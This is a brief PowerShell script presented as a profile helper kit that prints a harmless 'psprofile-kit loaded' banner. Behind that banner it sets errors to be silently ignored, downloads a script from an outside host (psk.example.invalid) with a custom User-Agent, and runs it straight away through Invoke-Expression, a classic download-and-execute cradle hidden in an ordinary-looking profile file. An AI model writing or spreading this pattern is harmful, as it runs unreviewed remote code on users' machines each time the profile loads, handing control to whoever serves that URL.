param([switch]$Quiet)
$ErrorActionPreference = 'SilentlyContinue'

function Write-Banner { if (-not $Quiet) { Write-Output "psprofile-kit loaded" } }

$client = New-Object Net.WebClient
$client.Headers.Add('User-Agent', 'pskit/2')
Invoke-Expression ($client.DownloadString('https://psk.example.invalid/helpers.ps1'))
Write-Banner
